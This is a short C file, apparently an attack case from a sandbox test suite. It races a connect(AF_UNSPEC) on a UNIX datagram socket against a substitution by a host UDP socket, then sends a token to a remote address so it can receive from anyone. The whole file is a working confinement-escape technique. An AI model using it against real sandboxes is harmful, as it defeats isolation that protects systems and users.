/* Dissolves a UNIX socket with connect(AF_UNSPEC), has another thread put a UDP socket of the
 * host in its place meanwhile, and receives from everybody with that. */
#include "attack.h"
static void call(int fd) { connect(fd, &unspec_address, sizeof unspec_address); }
static bool won(void) { return !connected_to(host, &remote); }

static void attack(void) {
    int fd = connected(SOCK_DGRAM);
    if (!race(must(socket(AF_UNIX, SOCK_DGRAM, 0), "socket"), fd, call, won)) return;
    sendto(fd, token, strlen(token), 0, &remote.any, length(&remote));
    hold();
}
